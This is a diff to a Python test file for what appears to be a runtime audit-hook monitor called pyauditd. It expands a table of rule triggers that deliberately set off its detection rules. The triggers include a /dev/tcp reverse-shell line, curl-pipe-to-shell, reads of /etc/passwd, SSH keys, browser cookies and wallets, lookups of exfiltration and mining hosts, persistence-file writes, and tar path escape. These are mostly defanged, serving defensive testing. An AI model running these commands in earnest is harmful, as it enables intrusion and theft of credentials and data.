@@ -5,24 +5,22 @@ import json
 import subprocess
 import textwrap
 
-from conftest import CTL, ROOT, rules_of
+from conftest import CTL, ROOT
 
 # Rule to what sets it off; each is a function's body. T is a directory to write in.
 ACTS = {
     "reverse-shell": "os.system(\"bash -c 'sh -i >& /dev/tcp/127.0.0.1/9 0>&1'\")",
     "pty-shell": "in_child(lambda: pty.spawn(['/bin/sh', '-c', 'true']))",
     "interactive-shell": "subprocess.run(['/bin/sh', '-i'], stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
-    "shell-from-web-request": """
-        from wsgiref.handlers import SimpleHandler
-        def app(environ, start_response):
-            os.system('true')
-            start_response('200 OK', [])
-            return [b'']
-        SimpleHandler(io.BytesIO(), io.BytesIO(), io.StringIO(), {'SERVER_PROTOCOL': 'HTTP/1.1'}).run(app)""",
+    "shell-from-web-request": "in_request(lambda: os.system('true'))",
     "download-into-shell": "os.system('true curl http://127.0.0.1:9/x | sh')",
     "installer-downloads": """
         open(T + '/setup.py', 'w').write("import os; os.system('curl --version >/dev/null 2>&1')")
         subprocess.run([sys.executable, T + '/setup.py'])""",
+    "download-from-web-request": "in_request(lambda: os.system('curl --version >/dev/null 2>&1'))",
+    "privileges-from-web-request": "in_request(lambda: os.system('sudo --no-such-option >/dev/null 2>&1'))",
+    "code-from-web-request": "in_request(lambda: eval(\"__import__('os').getpid()\"))",
+    "secrets-from-web-request": "in_request(lambda: open('/etc/passwd').close())",
     "unpickle-command": """
         class Command:
             def __reduce__(self):
@@ -38,6 +36,24 @@ ACTS = {
         os.makedirs(T + '/.ssh')
         open(T + '/.ssh/id_ed25519', 'w').close()
         open(T + '/.ssh/id_ed25519').close()""",
+    "browser-data-read": """
+        os.makedirs(T + '/.mozilla/firefox/x')
+        sqlite3.connect(T + '/.mozilla/firefox/x/cookies.sqlite').close()""",
+    "wallet-read": """
+        os.makedirs(T + '/.ethereum/keystore')
+        open(T + '/.ethereum/keystore/key', 'w').close()""",
+    "history-read": """
+        open(T + '/.zsh_history', 'w').close()
+        open(T + '/.zsh_history').close()""",
+    "environment-of-others": "open('/proc/%d/environ' % os.getppid()).close()",
+    "drop-site": "look_up('webhook.site')",
+    "hidden-service": "look_up('nobody.onion')",
+    "mining-pool": "look_up('pool.minexmr.com')",
+    "data-in-host-name": "look_up('0' * 50 + '.t.example.org')",
+    "password-in-clear-url": "urllib.request.OpenerDirector().open('http://joe:x@192.0.2.1/')",
+    "telnet": "subprocess.run(['telnet', '--no-such-option'], stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
+    "clear-login": "sys.audit('ftplib.sendcmd', None, 'PASS x')",
+    "packet-socket": "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close()",
     "metadata-address": """
         with socket.socket() as s:
             s.setblocking(False)
@@ -48,12 +64,35 @@ ACTS = {
     "cron-written": "open('/etc/cron.d/no-such-directory/x', 'w')",
     "unit-file-written": "open('/etc/systemd/system/no-such-directory/x', 'w')",
     "login-file-written": "open('/etc/sudoers.d/no-such-directory/x', 'w')",
+    "accounts-changed": "open('/etc/passwd/no-such-directory/x', 'w')",
+    "names-redirected": "open('/etc/hosts/no-such-directory/x', 'w')",
+    "installer-connects": """
+        open(T + '/setup.py', 'w').write("import socket; s = socket.socket(); s.settimeout(0); s.connect_ex(('192.0.2.1', 80))")
+        subprocess.run([sys.executable, T + '/setup.py'])""",
+    "installer-starts-program": "pass",  # installer-downloads does
+    "site-packages-changed": """
+        os.makedirs(T + '/lib/site-packages', exist_ok=True)
+        open(T + '/lib/site-packages/x.py', 'w').close()""",
+    "pipeline-changed": """
+        os.makedirs(T + '/.git/hooks')
+        open(T + '/.git/hooks/pre-commit', 'w').close()""",
+    "archive-escape": """
+        with tarfile.open(T + '/a.tar', 'w') as tar:
+            tar.addfile(tarfile.TarInfo('../escaped'))
+        os.mkdir(T + '/unpacked')
+        with tarfile.open(T + '/a.tar') as tar:
+            tar.extractall(T + '/unpacked', **({'filter': 'fully_trusted'} if hasattr(tarfile, 'data_filter') else {}))""",
     "proc-mem-write": "os.open('/proc/self/mem', os.O_RDWR)",
     "native-injection": "ctypes.CDLL(None).ptrace",
     "native-exec": "ctypes.CDLL(None).execve",
     "interpreter-internals": "ctypes.pythonapi._PyRuntime",
     "program-from-memory": "subprocess.run(['/proc/self/fd/99'])",
-    "program-from-shared-memory": "subprocess.run(['/dev/shm/no-such-program'])",
+    "program-from-shared-memory": "subprocess.run(['/dev/shm/no-such-directory/program'])",
+    "program-from-open-directory": "subprocess.run(['/tmp/no-such-program'])",
+    "setuid-bit": """
+        open(T + '/x', 'w').close()
+        os.chmod(T + '/x', 0o4755)""",
+    "kernel-module": "subprocess.run(['insmod', '/nowhere/x.ko'], stderr=subprocess.DEVNULL)",
     "sqlite-extension": "sqlite3.connect(':memory:').enable_load_extension(True)",
     "loader-environment": "os.putenv('LD_PRELOAD', '/nowhere/x.so')",
     "loader-file-written": "open('/etc/ld.so.preload/no-such-directory/x', 'w')",
@@ -64,13 +103,25 @@ ACTS = {
     "audit-hook-added": "sys.addaudithook(lambda *args: None)",
     "open-code-hook": None,  # only by the C API
     "monitor-files-changed": "open('/etc/pyaudit/rules.d/no-such-directory/x', 'w')",
+    "kernel-settings-written": "open('/proc/sys/kernel/no-such-file', 'w')",
     "traces-removed": "os.remove(T + '/.bash_history')",
 }
-BLOCKED = {"reverse-shell", "unpickle-command", "proc-mem-write", "program-from-memory"}
+BLOCKED = {"reverse-shell", "unpickle-command", "proc-mem-write", "program-from-memory", "program-from-open-directory"}
 
 PROGRAM = """\
-import ctypes, io, os, pickle, pty, socket, sqlite3, subprocess, sys, tempfile
+import ctypes, io, os, pickle, pty, socket, sqlite3, subprocess, sys, tarfile, tempfile, urllib.request
+from wsgiref.handlers import SimpleHandler
 T = tempfile.mkdtemp()
+
+def in_request(act):
+    def app(environ, start_response):
+        act()
+        start_response('200 OK', [])
+        return [b'']
+    SimpleHandler(io.BytesIO(), io.BytesIO(), io.StringIO(), {'SERVER_PROTOCOL': 'HTTP/1.1'}).run(app)
+
+def look_up(host):
+    socket.getaddrinfo(host, 80, flags=socket.AI_NUMERICHOST)
 
 def in_child(act):
     pid = os.fork()
@@ -113,7 +164,7 @@ def test_shipped_rules_fire(ctl_run, python, tmp_path):
     # What this interpreter has not.
     expected -= {name for name in ("sqlite-extension", "remote-code")
                  if said[name].startswith("AttributeError")}
-    fired = {name for event in result.events for name in rules_of(event)}
+    fired = {name for event in result.events for name in event.get("rules", [])}
     assert fired == expected, str(result)
     for name in sorted(expected):
         denied = "PermissionError [Errno 1] pyauditd: rule '%s' denied" % name
